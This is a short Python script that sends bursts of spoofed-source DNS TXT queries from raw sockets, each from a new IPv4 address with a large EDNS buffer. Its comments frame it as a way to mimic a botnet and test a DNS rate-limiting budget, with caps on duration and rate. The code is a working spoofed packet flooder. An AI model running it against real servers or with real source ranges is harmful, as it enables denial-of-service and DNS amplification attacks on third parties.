#!/usr/bin/env python3
# A spray of spoofed DNS queries, each from a fresh IPv4 source: RATE a second
# for SECONDS, sources counting up from FIRST (a /16 of 198.18.0.0/15 holds
# 65,534 of them), each asking for NAME TXT with a 4096-byte EDNS buffer. What
# a botnet does to make a budget table forget a victim. Raw socket with
# IP_HDRINCL (Node has none), so root (CAP_NET_RAW). Bounded: at most 120 s and
# 20,000 a second. Prints the number sent.
# Usage: spray-udp.py FIRST_SRC DST_IP DST_PORT NAME RATE SECONDS
import socket
import struct
import sys
import time


def query(qid: int, name: str) -> bytes:
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 1)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack("!HH", 16, 1)
    return q + b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)


def main() -> None:
    first, dst, dport, name, rate, seconds = sys.argv[1:7]
    rate_n = min(int(rate), 20_000)
    total = int(min(float(seconds), 120) * rate_n)
    base = struct.unpack("!I", socket.inet_aton(first))[0]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    payload = bytearray(query(0, name))
    start = time.monotonic()
    for i in range(total):
        src = socket.inet_aton(socket.inet_ntoa(struct.pack("!I", base + i)))
        payload[0:2] = struct.pack("!H", i & 0xFFFF)
        udp = struct.pack("!HHHH", 1024 + (i % 60000), int(dport), 8 + len(payload), 0)  # checksum 0: none (IPv4)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0, src, socket.inet_aton(dst))
        s.sendto(ip + udp + bytes(payload), (dst, 0))
        # paced in steps of 1/100 s: the kernel fills in the IP checksum
        if i % max(1, rate_n // 100) == 0:
            wait = start + i / rate_n - time.monotonic()
            if wait > 0:
                time.sleep(wait)
    s.close()
    print(total)


if __name__ == "__main__":
    main()
